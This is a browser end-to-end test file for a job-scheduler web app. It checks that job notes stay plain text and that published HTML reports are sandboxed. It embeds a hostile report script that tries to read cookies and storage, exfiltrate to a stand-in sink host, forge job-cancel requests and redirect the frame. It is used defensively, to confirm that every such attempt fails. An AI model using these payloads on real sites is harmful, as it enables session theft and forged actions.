"""Notes on a job, and published reports, in a real browser: from the form and the command to the screen, and what a
hostile report tries in vain."""

import json
import os
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.test_web_page import complaints, go, keep, serious_findings, sign_in, text_of, until_text, wait
from tests.support.browser import browser
from tests.support.real_server import FIFO, A, RealServer
from tests.support.web_scene import HOSTILE

pytestmark = pytest.mark.slow

WORKLOADS = Path(__file__).parents[2] / "configs" / "workloads"
WALRAS = str(Path(sys.executable).with_name("walras"))


@pytest.fixture
def server(tmp_path: Path) -> Iterator[RealServer]:
    running = RealServer(tmp_path, [{**A, "machines": 1}], FIFO)
    try:
        yield running.start()
    finally:
        running.close()


def admin_token(server: RealServer) -> str:
    return (server.data / "admin.token").read_text().strip()


def walras(server: RealServer, *words: object) -> str:
    """What the command says to its administrator."""
    env = {**os.environ, "WALRAS_SERVER": server.url, "WALRAS_TOKEN": admin_token(server)}
    done = subprocess.run([WALRAS, *map(str, words)], env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    return done.stdout


def fits(page: Any) -> bool:
    return bool(
        page.execute_script("return document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    )


def confirm(page: Any) -> None:
    """Say yes to the question, which opens a little after the click."""
    wait(page, lambda: page.find_elements("css selector", "dialog[open] button.danger"), "the question")[0].click()


# ------------------------------------------------------------------------------------------ notes


def test_notes_are_written_by_keyboard_read_by_others_and_removed(server: RealServer) -> None:
    """From the form and from the command line; hostile text stays text; who may not change the job has no form."""
    from selenium.webdriver.common.keys import Keys

    job = server.call("POST", "/jobs", {"run": "true", "name": "noted", "hold": True})[1]["id"]
    assert walras(server, "note", job, "from the", "command").startswith("note 1 on job")
    viewer = server.call("POST", "/tokens", {"user": "eve", "role": "viewer", "projects": ["*"]})[1]["token"]
    with browser() as page:
        sign_in(page, server.url, admin_token(server))
        go(page, f"jobs/{job}", "from the command")
        box = page.find_element("id", "note-text")
        box.send_keys(HOSTILE, Keys.ENTER, "  a second line", Keys.TAB)
        assert page.switch_to.active_element.text == "Add a note"
        page.switch_to.active_element.send_keys(Keys.ENTER)
        until_text(page, HOSTILE)
        until_text(page, "a second line")
        text = lambda: page.find_element("id", "note-text").get_attribute("value")  # noqa: E731
        wait(page, lambda: text() == "", "the form is empty again")
        assert "owned" not in page.title
        assert serious_findings(page) == []
        keep(page, "notes-1000")
        page.set_window_size(390, 900)
        assert fits(page)
        page.find_element("css selector", "[aria-label='Remove note 1']").click()
        confirm(page)
        wait(page, lambda: "from the command" not in text_of(page), "the note is gone")
        assert complaints(page) == []
    with browser() as page:
        sign_in(page, server.url, viewer)
        go(page, f"jobs/{job}", HOSTILE)
        assert page.find_elements("id", "note-text") == []
        assert page.find_elements("css selector", "[aria-label^='Remove note']") == []
    assert "a second line" in walras(server, "show", job)


# ------------------------------------------------------------------------------------------ reports


_DRAWN = "return [...document.querySelectorAll('svg')].map(picture => picture.getBoundingClientRect().width)"


def test_a_published_comparison_opens_and_its_charts_draw(server: RealServer, tmp_path: Path) -> None:
    """The very file that `simulate compare` wrote: its pictures and its slider work in the frame, at any width, in
    light and dark, by keyboard; it can be saved as it was and removed.
    """
    from selenium.webdriver.common.keys import Keys

    out = tmp_path / "out"
    compare = [WALRAS, "simulate", "compare", str(WORKLOADS / "three-types.csv"), "--cluster", "gavel-12-12-12"]
    compare += ["--policy", "fifo", "--policy", "max_min_fairness", "--bounds", "none", "--out", str(out)]
    subprocess.run(compare, check=True, timeout=300, capture_output=True)
    told = walras(server, "report", "publish", out)
    assert told.rstrip().endswith(f"{server.url}/#/report/1")
    with browser() as page:
        sign_in(page, server.url, admin_token(server))
        go(page, "report", "Published reports")
        assert serious_findings(page) == []
        names = wait(page, lambda: page.find_elements("css selector", "[aria-labelledby=published] .name"), "the list")
        title = names[0].text
        page.find_element("css selector", "[aria-labelledby=published] a").click()
        frame = wait(page, lambda: page.find_elements("css selector", "iframe.report"), "the frame")[0]
        for theme, width in (("light", 1360), ("dark", 1360), ("light", 390)):
            page.set_window_size(width, 900)
            page.execute_script("document.documentElement.dataset.theme = arguments[0]", theme)
            assert fits(page), width
            page.switch_to.frame(frame)
            widths = wait(page, lambda: page.execute_script(_DRAWN), "the charts")
            assert len(widths) >= 5
            assert min(widths) > 100
            assert fits(page), f"the report is wider than its frame at {width}"
            slider = page.find_element("css selector", ".time-slider input")
            slider.send_keys(Keys.HOME)
            assert page.find_element("css selector", ".time-slider output").text == "00:00:00"
            slider.send_keys(Keys.END)
            assert page.find_element("css selector", ".time-slider output").text != "00:00:00"
            page.switch_to.default_content()
            keep(page, f"published-{theme}-{width}")
        page.set_window_size(1360, 900)
        assert serious_findings(page) == []
        assert title in page.find_element("css selector", "h1").text
        assert complaints(page) == []
        page.find_element("xpath", "//button[text()='Remove']").click()
        confirm(page)
        until_text(page, "None yet.")
    assert server.call("GET", "/reports")[1] == []


_HOSTILE_REPORT = """<!DOCTYPE html><html><head><title>Harmless</title></head><body><pre id="told"></pre><script>
const told = {};
const tell = () => { document.getElementById("told").textContent = JSON.stringify(told); };
const attempt = (name, work) => {
  try { told[name] = String(work()); } catch (error) { told[name] = "no: " + error.name; }
  tell();
};
const later = (name, begin) => new Promise((done) => {
  const end = (what) => { told[name] = what; tell(); done(); };
  try { begin(() => end("yes"), () => end("no")); } catch (error) { end("no"); }
});
const header = {"X-Walras-Page": "1", "Content-Type": "application/json"};
const wired = (make, opens, fails) => (yes, no) => { const made = make(); made[opens] = yes; made[fails] = no; };
const asked = (url, more) => (yes, no) => fetch(url, {credentials: "include", ...more}).then(yes, no);
const element = (tag, fields) => (yes, no) => {
  const made = Object.assign(document.createElement(tag), fields);
  made.onload = yes; made.onerror = no; document.body.append(made);
};
attempt("origin", () => self.origin);
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("parent", () => parent.document.title);
attempt("parent hash", () => { parent.location.hash = "#/jobs"; return "set"; });
attempt("top", () => { top.location = "SINK/top"; return "set"; });
attempt("window", () => window.open("SINK/window"));
attempt("beacon", () => navigator.sendBeacon("SINK/beacon", "x"));
attempt("alert", () => alert("hello"));
(async () => {
  await later("who", asked("/api/v1/whoami"));
  await later("who elsewhere", asked("SERVER/api/v1/whoami", {mode: "no-cors"}));
  await later("cancel", asked("/api/v1/jobs/1/cancel", {method: "POST", headers: header}));
  await later("cancel plainly", asked("/api/v1/jobs/1/cancel", {method: "POST", mode: "no-cors"}));
  await later("leak", asked("SINK/leak", {mode: "no-cors"}));
  await later("image", element("img", {src: "SINK/image"}));
  await later("own image", element("img", {src: "/web/icon.svg"}));
  await later("script", element("script", {src: "/api/v1/jobs"}));
  await later("style", element("link", {rel: "stylesheet", href: "SINK/style"}));
  const session = "SERVER/api/v1/jobs/1/session".replace("http", "ws");
  await later("events", wired(() => new EventSource("/api/v1/overview/events"), "onopen", "onerror"));
  await later("socket", wired(() => new WebSocket(session), "onopen", "onerror"));
  await later("worker", wired(() => new Worker("data:text/javascript,postMessage(1)"), "onmessage", "onerror"));
  const form = Object.assign(document.createElement("form"), {method: "post", action: "/api/v1/jobs/1/cancel"});
  document.body.append(form);
  attempt("form", () => { form.submit(); return "sent"; });
  parent.postMessage({walras: "sign out"}, "*");
  element("iframe", {src: "/"})(() => 0, () => 0);
  told.done = true; tell();
})();
</script></body></html>"""


@contextmanager
def sink() -> Iterator[tuple[str, list[str]]]:
    """The address of somebody else's server, and the paths that reached it."""
    reached: list[str] = []

    class Keeper(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            reached.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name that the library calls

        def log_message(self, format: str, *args: Any) -> None:
            pass

    listening = ThreadingHTTPServer(("127.0.0.1", 0), Keeper)
    thread = threading.Thread(target=listening.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{listening.server_address[1]}", reached
    finally:
        listening.shutdown()
        listening.server_close()


def _publish(server: RealServer, folder: Path, name: str, page: str) -> None:
    (folder / f"{name}.html").write_text(page)
    walras(server, "report", "publish", folder / f"{name}.html", "--title", f"{name} {HOSTILE}")


def test_a_hostile_report_reaches_neither_the_server_nor_anybody_else(server: RealServer, tmp_path: Path) -> None:
    """Not the session, not the page around it, not the API with the reader's rights, no other host; it cannot take the
    frame to where the reader's rights count, and by itself it is a file to save, not a page of this server.
    """
    job = server.call("POST", "/jobs", {"run": "true", "name": "victim", "hold": True})[1]["id"]
    with sink() as (elsewhere, reached), browser() as page:
        _publish(server, tmp_path, "tries", _HOSTILE_REPORT.replace("SINK", elsewhere).replace("SERVER", server.url))
        _publish(server, tmp_path, "asks", "<script>location.replace('/api/v1/whoami')</script>")
        _publish(server, tmp_path, "leaves", f"<script>location.replace('{elsewhere}/leave?' + 1)</script>")
        _publish(server, tmp_path, "refreshes", f"<meta http-equiv=refresh content='0; {elsewhere}/refresh'>")
        sign_in(page, server.url, admin_token(server))
        go(page, "report/1", "Published by")
        assert HOSTILE in text_of(page)
        page.switch_to.frame(wait(page, lambda: page.find_elements("css selector", "iframe.report"), "the frame")[0])
        told = wait(page, lambda: _told(page), "what the report found")
        page.switch_to.default_content()
        assert told.pop("origin") == "null"
        assert {name: what for name, what in told.items() if not what.startswith("no")} == {
            "window": "null", "beacon": told["beacon"], "alert": "undefined", "form": "sent",
        }  # fmt: skip
        assert page.current_url == f"{server.url}/#/report/1"
        assert "owned" not in page.title
        assert server.call("GET", f"/jobs/{job}")[1]["state"] == "HELD"

        go(page, "report/2", "asks")
        page.switch_to.frame(wait(page, lambda: page.find_elements("css selector", "iframe.report"), "the frame")[0])
        wait(page, lambda: "unauthorised" in text_of(page) or not text_of(page).strip(), "nobody is signed in there")
        page.switch_to.default_content()
        for number, name in ((3, "leaves"), (4, "refreshes")):
            go(page, f"report/{number}", name)
            page.execute_async_script("setTimeout(arguments[0], 1500)")
            assert page.current_url == f"{server.url}/#/report/{number}"
        page.execute_script("window.open(arguments[0])", f"{server.url}/api/v1/reports/1/page")
        page.execute_async_script("setTimeout(arguments[0], 1500)")
        for handle in page.window_handles:
            page.switch_to.window(handle)
            assert page.find_elements("id", "told") == []
        urllib.request.urlopen(f"{elsewhere}/by-the-test").close()
        assert reached == ["/by-the-test"]
    audit = [row["action"].split(" ")[0] + " " + row["subject"] for row in server.call("GET", "/audit")[1]]
    assert sorted(audit) == [f"POST job {job}", *(f"POST report {number}" for number in (1, 2, 3, 4))]


def _told(page: Any) -> dict[str, str] | None:
    found = page.find_elements("id", "told")
    told: dict[str, Any] = json.loads(found[0].text or "{}") if found else {}
    return told if told.pop("done", False) else None
